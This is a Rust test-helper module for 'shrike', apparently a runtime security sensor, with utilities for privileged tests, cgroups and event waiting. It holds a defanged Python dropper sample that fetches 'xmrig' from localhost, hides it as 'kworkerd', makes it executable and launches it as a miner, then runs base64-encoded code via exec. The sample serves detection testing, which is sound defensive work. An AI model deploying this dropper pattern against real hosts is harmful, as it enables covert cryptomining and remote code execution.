//! Helpers shared by the privileged tests.
#![allow(dead_code)]

use std::{
    io::{BufRead, BufReader},
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::mpsc,
    thread::JoinHandle,
    time::{Duration, Instant},
};

use shrike::{
    event::Event,
    sensor::{Sensor, SensorConfig},
};

/// True when privileged tests can run here. Not root: prints the skip and returns false —
/// except under CI (CI=true), where a skipped privileged test is a failure.
pub fn privileged(test: &str) -> bool {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        return true;
    }
    if std::env::var("CI").map(|v| v == "true" || v == "1").unwrap_or(false) {
        panic!("{test}: privileged test cannot run (not root) and CI=true: a skip is a failure here");
    }
    println!("skipping test - {test}: needs root");
    false
}

/// A sensor that sees everything (the test process is not filtered out).
pub fn sensor() -> Sensor {
    Sensor::start(&SensorConfig { ring_buffer_bytes: 4 * 1024 * 1024, agent_tgid: 0, ..SensorConfig::default() }).expect("sensor starts")
}

/// Read events until `pred` matches one (returned) or `timeout` passes (None). Every event read
/// is appended to `seen`.
pub async fn wait_for(
    sensor: &mut Sensor,
    seen: &mut Vec<Event>,
    timeout: Duration,
    pred: impl Fn(&Event) -> bool,
) -> Option<Event> {
    if let Some(e) = seen.iter().find(|e| pred(e)) {
        return Some(e.clone());
    }
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        let start = seen.len();
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, sensor.read_batch(|e| seen.push(e))).await {
            Ok(r) => {
                r.expect("ring buffer read");
            }
            Err(_) => break,
        }
        if let Some(e) = seen[start..].iter().find(|e| pred(e)) {
            return Some(e.clone());
        }
    }
    None
}

/// A unique marker for argv, so a test finds its own processes among everything on the host.
pub fn marker(name: &str) -> String {
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(0);
    format!("shrike-test-{name}-{}-{nanos}", std::process::id())
}

/// A directory made for a test, removed with its contents on drop.
pub struct TempDir(pub PathBuf);

impl TempDir {
    /// A fresh directory under the system's temporary directory, named after `tag`.
    pub fn new(tag: &str) -> TempDir {
        Self::new_in(&std::env::temp_dir(), tag)
    }

    /// A fresh directory under `parent`, named after `tag`.
    pub fn new_in(parent: &Path, tag: &str) -> TempDir {
        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let dir = parent.join(format!("{}-{}", marker(tag), N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A cgroup2 directory made for a test, removed (with its parents that it created) on drop.
pub struct TestCgroup {
    /// The leaf directory.
    pub dir: PathBuf,
    created: Vec<PathBuf>,
}

impl TestCgroup {
    /// Create `relative` (e.g. "kubepods.slice/.../cri-containerd-<id>.scope") under the cgroup2 mount.
    pub fn create(relative: &str) -> TestCgroup {
        let mount = shrike::process::procfs::cgroup2_mount(Path::new("/proc")).expect("cgroup2 is mounted");
        let mut created = Vec::new();
        let mut dir = mount.clone();
        for part in relative.split('/') {
            dir.push(part);
            if !dir.exists() {
                std::fs::create_dir(&dir).unwrap_or_else(|e| panic!("mkdir {}: {e}", dir.display()));
                created.push(dir.clone());
            }
        }
        TestCgroup { dir, created }
    }

    /// The cgroup id the kernel reports: the directory's inode.
    pub fn id(&self) -> u64 {
        std::fs::metadata(&self.dir).expect("cgroup dir").ino()
    }

    /// Path of `cgroup.procs`.
    pub fn procs(&self) -> PathBuf {
        self.dir.join("cgroup.procs")
    }
}

impl Drop for TestCgroup {
    fn drop(&mut self) {
        for dir in self.created.iter().rev() {
            // Processes may take a moment to leave after exit; retry briefly.
            let deadline = Instant::now() + Duration::from_secs(5);
            while std::fs::remove_dir(dir).is_err() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

/// A shrike child process that has logged `shrike ready`.
pub struct Ready {
    pub child: Child,
    /// The `shrike ready ...` log line (it carries e.g. `metrics=ADDR`).
    pub line: String,
    /// Its whole log (stderr), complete once it exits.
    pub log: JoinHandle<String>,
}

/// Spawn `cmd` with stderr piped and wait (at most 30 s) for its `shrike ready` log line. Its
/// stderr is read to the end on a thread, so it never blocks on a full pipe. If it exits or is
/// not ready in time, it is stopped (by pid) and the test fails with its log.
pub fn spawn_ready(cmd: &mut Command) -> Ready {
    let mut child = cmd.stderr(Stdio::piped()).spawn().expect("spawn shrike");
    let stderr = BufReader::new(child.stderr.take().unwrap());
    let (tx, rx) = mpsc::channel();
    let log = std::thread::spawn(move || {
        let mut all = String::new();
        let mut tx = Some(tx);
        for line in stderr.lines() {
            let Ok(line) = line else { break };
            if line.contains("shrike ready") {
                if let Some(tx) = tx.take() {
                    let _ = tx.send(line.clone());
                }
            }
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    match rx.recv_timeout(Duration::from_secs(30)) {
        Ok(line) => Ready { child, line, log },
        Err(e) => {
            // SAFETY: signalling the child we started, by its pid.
            unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
            let _ = child.wait();
            let log = log.join().unwrap_or_default();
            panic!("shrike not ready ({}): {log}", if e == mpsc::RecvTimeoutError::Timeout { "timeout" } else { "exited" });
        }
    }
}

/// Sorted names of the files in `dir` that `keep` accepts (none if `dir` is missing).
pub fn files_in(dir: &Path, keep: impl Fn(&str) -> bool) -> Vec<String> {
    let rd = std::fs::read_dir(dir).into_iter().flatten().filter_map(|e| e.ok());
    let mut v: Vec<String> = rd.map(|e| e.file_name().to_string_lossy().into_owned()).filter(|n| keep(n)).collect();
    v.sort();
    v
}

/// The findings waiting in a network sink's spool directory (sorted, oldest first).
pub fn spooled_files(dir: &Path) -> Vec<String> {
    files_in(dir, |n| n.ends_with(".json"))
}

/// A defanged dropper: download, chmod, execute (never run against anything real: the URL is
/// a closed port on 127.0.0.1).
pub const DROPPER: &str = r#"import os, stat, subprocess, urllib.request
URL = "http://127.0.0.1:9/xmrig"
path = "/tmp/.cache/kworkerd"
os.makedirs(os.path.dirname(path), exist_ok=True)
try:
    data = urllib.request.urlopen(URL, timeout=1).read()
    open(path, "wb").write(data)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([path, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level", "0"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
except Exception:
    pass
import base64
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
"#;

/// A `Write` into a shared buffer, for capturing a log.
#[derive(Clone, Default)]
pub struct LogBuf(pub std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for LogBuf {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}
